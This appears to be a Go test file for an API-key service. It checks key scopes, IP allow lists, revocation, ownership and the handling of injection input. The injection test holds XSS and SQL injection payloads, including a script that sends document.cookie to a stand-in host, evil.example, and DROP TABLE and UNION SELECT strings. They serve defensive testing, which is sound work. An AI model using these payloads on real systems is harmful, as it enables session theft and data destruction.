package main

import (
	"context"
	"net/http"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/gatehouse-go/gatehouse/examples/internal/users"
)

type createdKey struct {
	ID        string     `json:"id"`
	Key       string     `json:"key"`
	Name      string     `json:"name"`
	Scopes    []string   `json:"scopes"`
	ExpiresAt *time.Time `json:"expires_at"`
}

func (s *testServer) createKey(t *testing.T, sess session, body string) createdKey {
	t.Helper()
	var k createdKey
	s.do(t, "POST", "/api/keys", body, sess.bearer()...).json(t, http.StatusCreated, &k)
	return k
}

type keyList struct {
	Keys []struct {
		ID        string     `json:"id"`
		Key       string     `json:"key"`
		Name      string     `json:"name"`
		RevokedAt *time.Time `json:"revoked_at"`
	} `json:"keys"`
}

const chatBody = `{"message":"What can you do?"}`

// TestAPIKeys covers creation, scopes, ownership and revocation.
func TestAPIKeys(t *testing.T) {
	t.Parallel()
	forEachBackend(t, func(t *testing.T, b backend) {
		s := startServer(t, b, relaxed)

		t.Run("a key with the chat scope calls chat, in either header", func(t *testing.T) {
			t.Parallel()
			_, sess := s.user(t, "kim")
			k := s.createKey(t, sess, `{"name":"CI","scopes":["chat"],"expires_in":3600}`)
			require.Regexp(t, `^gk_live_[0-9A-Za-z]{43}_[0-9A-Za-z]{6}$`, k.Key)
			require.Equal(t, []string{"chat"}, k.Scopes)
			require.WithinDuration(t, time.Now().Add(time.Hour), *k.ExpiresAt, time.Minute)
			for _, hdr := range [][]string{{"X-API-Key", k.Key}, {"Authorization", "Bearer " + k.Key}} {
				var reply map[string]string
				s.do(t, "POST", "/api/agent/chat", chatBody, hdr...).json(t, http.StatusOK, &reply)
				require.NotEmpty(t, reply["reply"])
			}
			// the secret is shown once: never in the list
			r := s.do(t, "GET", "/api/keys", nil, sess.bearer()...)
			require.Equal(t, http.StatusOK, r.status)
			require.NotContains(t, string(r.body), k.Key)
			require.NotContains(t, string(r.body), strings.Split(k.Key, "_")[2])
		})

		t.Run("a key without the chat scope is refused", func(t *testing.T) {
			t.Parallel()
			_, sess := s.user(t, "leo")
			k := s.createKey(t, sess, `{"name":"no scopes"}`)
			r := s.do(t, "POST", "/api/agent/chat", chatBody, "X-API-Key", k.Key)
			r.requireProblem(t, http.StatusForbidden, "insufficient_scope")
			s.do(t, "POST", "/api/keys", `{"name":"x","scopes":["admin"]}`, sess.bearer()...).requireProblem(t, http.StatusBadRequest, "invalid_scope")
			s.do(t, "POST", "/api/keys", `{"name":"x","scopes":["chat"],"expires_in":-5}`, sess.bearer()...).requireProblem(t, http.StatusBadRequest, "invalid_key_request")
			s.do(t, "POST", "/api/keys", `{"name":"x","scopes":["chat"],"allowed_ips":["not-an-ip"]}`, sess.bearer()...).requireProblem(t, http.StatusBadRequest, "invalid_allowed_ips")
		})

		t.Run("a key is refused outside its allowed networks", func(t *testing.T) {
			t.Parallel()
			_, sess := s.user(t, "mia")
			k := s.createKey(t, sess, `{"name":"office","scopes":["chat"],"allowed_ips":["203.0.113.0/24"]}`)
			s.do(t, "POST", "/api/agent/chat", chatBody, "X-API-Key", k.Key).requireProblem(t, http.StatusForbidden, "ip_not_allowed")
			k = s.createKey(t, sess, `{"name":"here","scopes":["chat"],"allowed_ips":["127.0.0.1"]}`)
			require.Equal(t, http.StatusOK, s.do(t, "POST", "/api/agent/chat", chatBody, "X-API-Key", k.Key).status)
		})

		t.Run("bad keys all get the same 401", func(t *testing.T) {
			t.Parallel()
			_, sess := s.user(t, "ned")
			k := s.createKey(t, sess, `{"name":"soon revoked","scopes":["chat"]}`)
			require.Equal(t, http.StatusNoContent, s.do(t, "DELETE", "/api/keys/"+k.ID, nil, sess.bearer()...).status)
			flipped := k.Key[:len(k.Key)-1] + "A"
			if strings.HasSuffix(k.Key, "A") {
				flipped = k.Key[:len(k.Key)-1] + "B"
			}
			for _, hdr := range [][]string{
				{"X-API-Key", k.Key},                                // revoked
				{"X-API-Key", flipped},                              // checksum broken
				{"X-API-Key", "gk_live_" + strings.Repeat("a", 50)}, // made up
				{"X-API-Key", "' OR 1=1 --"},
				{"Authorization", "Bearer nodots"},
			} {
				r := s.do(t, "POST", "/api/agent/chat", chatBody, hdr...)
				r.requireProblem(t, http.StatusUnauthorized, "invalid_api_key")
				require.NotEmpty(t, r.header.Get("WWW-Authenticate"))
			}
		})

		t.Run("nobody sees, revokes or loses a key of another user", func(t *testing.T) {
			t.Parallel()
			_, alice := s.user(t, "olivia")
			_, bob := s.user(t, "pat")
			k := s.createKey(t, alice, `{"name":"alice's","scopes":["chat"]}`)
			var list keyList
			s.do(t, "GET", "/api/keys", nil, bob.bearer()...).json(t, http.StatusOK, &list)
			require.Empty(t, list.Keys)
			s.do(t, "DELETE", "/api/keys/"+k.ID, nil, bob.bearer()...).requireProblem(t, http.StatusNotFound, "not_found")
			s.do(t, "DELETE", "/api/keys/"+strings.Repeat("A", 22), nil, bob.bearer()...).requireProblem(t, http.StatusNotFound, "not_found")
			require.Equal(t, http.StatusOK, s.do(t, "POST", "/api/agent/chat", chatBody, "X-API-Key", k.Key).status)
			s.do(t, "GET", "/api/keys", nil, alice.bearer()...).json(t, http.StatusOK, &list)
			require.Len(t, list.Keys, 1)
			require.Equal(t, k.ID, list.Keys[0].ID)
			require.Nil(t, list.Keys[0].RevokedAt)
			require.Empty(t, list.Keys[0].Key)
			// an API key cannot manage keys
			s.do(t, "GET", "/api/keys", nil, "Authorization", "Bearer "+k.Key).requireProblem(t, http.StatusUnauthorized, "invalid_token")
		})
	})
}

// TestInjectionPayloads sends XSS and SQL injection payloads where the API
// takes text: they are refused where the field has a syntax, and stored
// verbatim, returned JSON-escaped and logged where it does not.
func TestInjectionPayloads(t *testing.T) {
	t.Parallel()
	forEachBackend(t, func(t *testing.T, b backend) {
		s := startServer(t, b, relaxed)
		u, sess := s.user(t, "quinn")
		payloads := []string{
			`<img src=x onerror=alert(document.cookie)>`,
			`<script>fetch('//evil.example/'+document.cookie)</script>`,
			`'; DROP TABLE gatehouse_api_keys; --`,
			`' UNION SELECT key_hash FROM gatehouse_api_keys --`,
			`Robert'); DROP TABLE gatehouse_example_users;--`,
		}
		for _, p := range payloads {
			k := s.createKey(t, sess, `{"name":`+strconv.Quote(p)+`,"scopes":["chat"]}`)
			require.Equal(t, p, k.Name, "stored verbatim")
			var reply map[string]string
			s.do(t, "POST", "/api/agent/chat", map[string]string{"message": p}, "X-API-Key", k.Key).json(t, http.StatusOK, &reply)
			require.NotContains(t, reply["reply"], "<", "chat input is never echoed")
		}
		r := s.do(t, "GET", "/api/keys", nil, sess.bearer()...)
		require.Equal(t, http.StatusOK, r.status)
		require.Equal(t, "application/json", r.header.Get("Content-Type"))
		require.Equal(t, "nosniff", r.header.Get("X-Content-Type-Options"))
		require.NotContains(t, string(r.body), "<", "markup leaves the API JSON-escaped")
		var list keyList
		r.json(t, http.StatusOK, &list)
		var names []string
		for _, k := range list.Keys {
			names = append(names, k.Name)
		}
		require.ElementsMatch(t, payloads, names, "the tables and the data are intact")
		require.Equal(t, "user", u.role(t, s))

		// The detector saw them: its findings are in the security log.
		require.NoError(t, s.users.SetRole(context.Background(), u.ID, users.RoleAdmin))
		admin := s.login(t, u.Username)
		require.Eventually(t, func() bool {
			body := string(s.do(t, "GET", "/api/admin/security-events?limit=1000", nil, admin.bearer()...).body)
			return strings.Contains(body, `"malicious_xss"`) && strings.Contains(body, `"malicious_sqli"`)
		}, 10*time.Second, 100*time.Millisecond)
	})
}
